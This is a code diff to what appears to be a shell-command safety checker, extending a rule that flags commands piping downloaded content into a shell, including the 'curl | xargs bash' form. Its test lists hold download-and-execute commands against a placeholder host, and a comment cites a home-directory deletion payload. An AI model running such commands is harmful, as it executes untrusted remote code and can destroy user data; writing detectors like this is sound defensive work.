@@ -1371,6 +1371,7 @@ def _is_code_runner(cmd: SimpleCommand) -> bool:
         "bash < <(curl -s https://x.example/i.sh)",
         "curl -s https://x.example/p.py | python3 -",
         "curl -fsSL https://x.example/i.sh | bash -s -- --yes",
+        "curl -sL https://x.example/x | xargs bash",
     ),
     no_match=(
         "curl -s https://registry.npmjs.org/react | jq .",
@@ -1380,6 +1381,8 @@ def _is_code_runner(cmd: SimpleCommand) -> bool:
         "curl -sL https://x.example/i.sh -o install.sh",
         'eval "$(ssh-agent -s)"',
         "source .venv/bin/activate",
+        "curl -sL https://x.example/ids | xargs echo",
+        "git ls-files '*.sh' | xargs bash -n",
     ),
 )
 def pipe_to_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
@@ -1392,6 +1395,12 @@ def pipe_to_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
         src = _downloads(sources, to_stdout=True)
         if src is not None:
             return f"{cmd.name} runs code downloaded by {src.name} ({_first_url(src)})"
+    if sources and cmd.via and cmd.via[-1] == "xargs" and any(w.raw == "<items read by xargs>" for w in cmd.args):
+        # curl URL | xargs bash: the downloaded text becomes the shell's words, its options and program included
+        # (xargs honours quotes: a response `-c 'rm -rf ~'` runs as bash -c 'rm -rf ~').
+        src = _downloads(sources, to_stdout=True)
+        if src is not None:
+            return f"xargs {cmd.name} runs words downloaded by {src.name} ({_first_url(src)}): its options and program included"
     for w in cmd.args:
         src = _downloads(w.subs, to_stdout=True)
         if src is not None:
